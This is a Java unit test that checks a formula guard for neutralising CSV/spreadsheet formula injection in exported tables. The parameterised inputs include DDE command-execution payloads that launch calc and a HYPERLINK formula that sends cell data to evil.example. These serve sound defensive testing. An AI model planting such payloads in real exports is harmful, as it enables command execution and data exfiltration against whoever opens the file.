package org.readout.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.readout.export.rows.FormulaGuard;
import org.readout.model.EventType;

/** What a text says is never run by a spreadsheet, and nothing of it is lost. */
final class FormulaGuardTest {

    private static final String[] PIECES = {
        "=", "+", "-", "@", "'", "\t", "\r", "\n", "a", " ", "\"", ",", ";", "\uFF1D", "\uD83D\uDD34"
    };

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3+cmd|' /C calc'!D2",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "\uFF1D1+1",
                "'=1+1",
            })
    void anAttackIsDisarmedInEveryTable(String attack) {
        Act act = Act.of(attack + " struck us.", EventType.ASSAULT, "struck", "190")
                .by(attack, "")
                .to("us", "")
                .from(attack, attack);
        String csv = Exported.as("csv", act).text();
        NamedCsvRecord row =
                CsvReader.builder().ofNamedCsvRecord(csv).stream().findFirst().orElseThrow();
        for (String column : List.of("document", "source", "actors", "sentence")) {
            assertThat(row.getField(column)).startsWith("'");
        }
        assertThat(FormulaGuard.unguarded(row.getField("actors"))).isEqualTo(attack);
        assertThat(FormulaGuard.unguarded(row.getField("sentence"))).isEqualTo(attack + " struck us.");
        Exported.as("gephi", act).files().values().forEach(FormulaGuardTest::assertHarmless);
        Exported.as("kumu", act).files().values().forEach(FormulaGuardTest::assertHarmless);
    }

    private static void assertHarmless(byte[] table) {
        String text = new String(table, StandardCharsets.UTF_8);
        CsvReader.builder().ofCsvRecord(text).stream()
                .flatMap(row -> row.getFields().stream())
                .forEach(cell -> assertThat(cell).doesNotMatch("(?s)[=+\\-@\\t\\r\\n\uFF1D].*"));
    }

    @Test
    void whatIsTakenAwayIsWhatWasAdded() {
        Random random = new Random(5);
        for (int i = 0; i < 2_000; i++) {
            StringBuilder cell = new StringBuilder();
            random.ints(random.nextInt(5), 0, PIECES.length).forEach(piece -> cell.append(PIECES[piece]));
            String guarded = FormulaGuard.guarded(cell.toString());
            assertThat(guarded).doesNotMatch("(?s)[=+\\-@\\t\\r\\n\uFF1D].*");
            assertThat(FormulaGuard.unguarded(guarded)).isEqualTo(cell.toString());
        }
    }
}
